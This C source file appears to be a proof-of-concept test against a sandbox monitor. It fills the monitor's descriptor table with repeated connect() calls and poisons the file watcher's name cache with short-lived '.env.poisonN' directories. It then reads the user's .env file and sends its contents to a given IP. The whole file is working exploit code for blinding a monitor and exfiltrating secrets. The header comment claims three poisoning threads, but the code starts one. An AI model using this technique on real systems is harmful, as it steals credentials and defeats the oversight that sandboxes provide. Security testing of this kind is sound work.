// poison IP SINKIP MODE: sends PRE; then
//   poison: connects one socket to SINKIP:443 and calls connect() on it again and again
//           (EISCONN): the monitor keeps a pidfd_getfd duplicate of the socket for each
//           call (no check for one already kept), until its descriptor table is full
//           (the next connect fails: the monitor cannot take the socket). Meanwhile
//           three thread threads make and remove directories ./.env.poisonN: the watcher
//           (a thread of the same process) resolves the workspace directory of one of
//           those FAN_CREATEs with no descriptor to spare (open_path / open_by_handle_at
//           fail with EMFILE), and caches the directory as named nowhere (an empty
//           entry in its name cache).
//           It says ready first and runs such cycles until .env exists (stat), at most 30:
//           the user's FAN_CREATE meets a full table (the watcher cannot resolve it)
//           during the last part of a cycle, or a cache entry poisoned earlier.
//   poison1: one cycle, then says ready (the user creates .env after it: only a
//           cache entry poisoned during the cycle can hide it).
//   plain:  none of that (control).
// says ready (plain; poison: before its cycles); waits 3 s (the monitor's socket reaper frees the descriptors; the user's
// tool creates .env meanwhile); opens .env (a kernel-decided open), reads and sends it;
// then one more send (was the session tainted?).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <time.h>
#include <pthread.h>
#include <stdatomic.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/resource.h>
#include "../../isolated-files-r4/send.c"
static atomic_int stop; static atomic_long made;
// mkdir/rmdir .env.poison while the fill runs: each mkdir is a FAN_CREATE the watcher
// resolves, some of them while the monitor has no descriptor left.
static void*poisoner(void*x){ char d[32]; snprintf(d,sizeof d,".env.poison%ld",(long)x);
  while(!atomic_load(&stop)){ if(mkdir(d,0755)==0){ atomic_fetch_add(&made,1); rmdir(d); } } return 0; }
#define CYCLES 30
static double now(){struct timespec t; clock_gettime(CLOCK_MONOTONIC,&t); return t.tv_sec+t.tv_nsec/1e9;}
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int once=!strcmp(argv[3],"poison1");
  if(!strncmp(argv[3],"poison",6)){
    struct rlimit r; getrlimit(RLIMIT_NOFILE,&r); r.rlim_cur=r.rlim_max; setrlimit(RLIMIT_NOFILE,&r);
    struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(443)}; inet_pton(AF_INET,argv[2],&a.sin_addr);
    pthread_t th[1]; for(int i=0;i<1;i++) pthread_create(&th[i],0,poisoner,(void*)(long)i);
    if(!once) close(open("ready",O_CREAT|O_WRONLY,0644)); struct stat st;
    for(int c=1;c<=(once?1:CYCLES) && stat(".env",&st)<0;c++){
      int s=socket(AF_INET,SOCK_STREAM,0); int r0=connect(s,(void*)&a,sizeof a);
      double t0=now(); long n=0; int e;
      for(;;){ if(connect(s,(void*)&a,sizeof a)==0||errno==EISCONN){n++; continue;} e=errno; break; }
      // the monitor's socket reaper (every 0.5 s), finding no descriptor to list the
      // sandbox's with, shuts and drops every tracked socket: the table is free again
      double t1=now(); usleep(700000);
      close(s);
      printf("cycle %d: connect %d, again x%ld in %.2f s, then: %s; mkdir .env.poison made %ld times\n",c,r0,n,t1-t0,strerror(e),atomic_load(&made));
    }
    atomic_store(&stop,1); for(int i=0;i<1;i++) pthread_join(th[i],0);
  }
  if(once||strncmp(argv[3],"poison",6)) close(open("ready",O_CREAT|O_WRONLY,0644));
  sleep(3);
  int fd=open(".env",O_RDONLY); if(fd<0){ printf("open .env: %s\n",strerror(errno)); }
  char buf[256]={0}; ssize_t k=fd>=0?read(fd,buf,255):-1; printf("read .env: %zd bytes: %.60s\n",k,buf);
  char m[300]; int l=snprintf(m,sizeof m,"LEAK:%.*s",k>0?(int)k:0,buf); printf("POST send: %d\n",send_buf(ip,m,l));
  sleep(1); printf("LATER send: %d\n",send_buf(ip,"LATER-SEND",10)); return 0; }
